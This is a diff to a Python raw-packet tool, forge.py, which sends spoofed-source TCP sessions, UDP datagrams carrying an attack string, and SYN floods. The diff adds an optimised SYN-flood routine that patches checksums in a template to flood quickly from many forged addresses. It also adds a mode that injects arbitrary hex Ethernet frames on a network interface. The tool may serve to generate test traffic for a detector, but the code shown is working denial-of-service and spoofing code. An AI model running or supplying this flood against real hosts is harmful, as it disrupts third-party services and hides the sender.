@@ -6,6 +6,7 @@ forge.py session --source PREFIX --count N --target HOST [--port 80]   SYN, then
                                                                        sequence numbers, from addresses that are not ours
 forge.py udp --source PREFIX --count N --target HOST [--port 53]       one datagram with the attack text per source
 forge.py syn --source PREFIX --count N --target HOST [--port 80]       SYN flood
+forge.py frame --device IF --count N FRAME…                            Ethernet frames in hexadecimal, as they are
 """
 import argparse
 import ipaddress
@@ -42,18 +43,56 @@ def udp(source, target, sport, dport, data):
     return packet(source, target, 17, struct.pack("!HHHH", sport, dport, 8 + len(data), 0) + data, 6)
 
 
+def syn_flood(raw, target, sources, count, port):
+    """Every packet another (source, port): a template, patched, since Python is slow."""
+    head = bytearray(packet(bytes(4), target, 6, bytes(20), 16))
+    head[20:40] = struct.pack("!HHIIBBHHH", 0, port, 0, 0, 0x50, 2, 64240, 0, 0)
+    fixed_ip = (~checksum(bytes(head[:10]) + b"\0\0" + bytes(head[12:20]))) & 0xFFFF
+    fixed_tcp = (~checksum(target + struct.pack("!HH", 6, 20) + bytes(head[20:40]))) & 0xFFFF
+    address = (socket.inet_ntoa(target), 0)
+
+    def fold(total):
+        total = (total & 0xFFFF) + (total >> 16)
+        return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
+
+    for number, host in zip(range(count), sources):
+        source = int(host)
+        words = (source >> 16) + (source & 0xFFFF)
+        sport = 1024 + number * 7919 % 64000
+        seq = number * 2654435761 & 0xFFFFFFFF
+        struct.pack_into("!HI", head, 10, fold(fixed_ip + words), source)
+        struct.pack_into("!H", head, 20, sport)
+        struct.pack_into("!I", head, 24, seq)
+        struct.pack_into("!H", head, 36, fold(fixed_tcp + words + sport + (seq >> 16) + (seq & 0xFFFF)))
+        raw.sendto(head, address)
+
+
 def main():
     parser = argparse.ArgumentParser()
-    parser.add_argument("what", choices=["session", "udp", "syn"])
-    parser.add_argument("--source", required=True)
+    parser.add_argument("what", choices=["session", "udp", "syn", "frame"])
+    parser.add_argument("frames", nargs="*")
+    parser.add_argument("--source")
+    parser.add_argument("--device")
     parser.add_argument("--count", type=int, default=10)
-    parser.add_argument("--target", required=True)
+    parser.add_argument("--target")
     parser.add_argument("--port", type=int)
     args = parser.parse_args()
     random.seed(1)
+    if args.what == "frame":
+        link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+        link.bind((args.device, 0))
+        for _ in range(args.count):
+            for frame in args.frames:
+                link.send(bytes.fromhex(frame))
+        print(f"{args.count} times {len(args.frames)} frames sent")
+        return
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     target = socket.inet_aton(args.target)
     hosts = itertools.cycle(list(ipaddress.ip_network(args.source).hosts()) or [ipaddress.ip_network(args.source)[0]])
+    if args.what == "syn":
+        syn_flood(raw, target, hosts, args.count, args.port or 80)
+        print(f"{args.count} syn sent")
+        return
     for _ in range(args.count):
         source = next(hosts).packed
         sport = random.randint(1024, 65535)
@@ -62,11 +101,9 @@ def main():
             frames = [udp(source, target, sport, port, ATTACK)]
         else:
             seq, ack = random.getrandbits(32), random.getrandbits(32)
-            frames = [tcp(source, target, sport, port, seq, 0, 2)]
-            if args.what == "session":
-                nxt = (seq + 1) & 0xFFFFFFFF
-                frames.append(tcp(source, target, sport, port, nxt, ack, 16))
-                frames.append(tcp(source, target, sport, port, nxt, ack, 24, ATTACK))
+            nxt = (seq + 1) & 0xFFFFFFFF
+            frames = [tcp(source, target, sport, port, seq, 0, 2), tcp(source, target, sport, port, nxt, ack, 16),
+                      tcp(source, target, sport, port, nxt, ack, 24, ATTACK)]
         for frame in frames:
             raw.sendto(frame, (args.target, 0))
     print(f"{args.count} {args.what} sent")
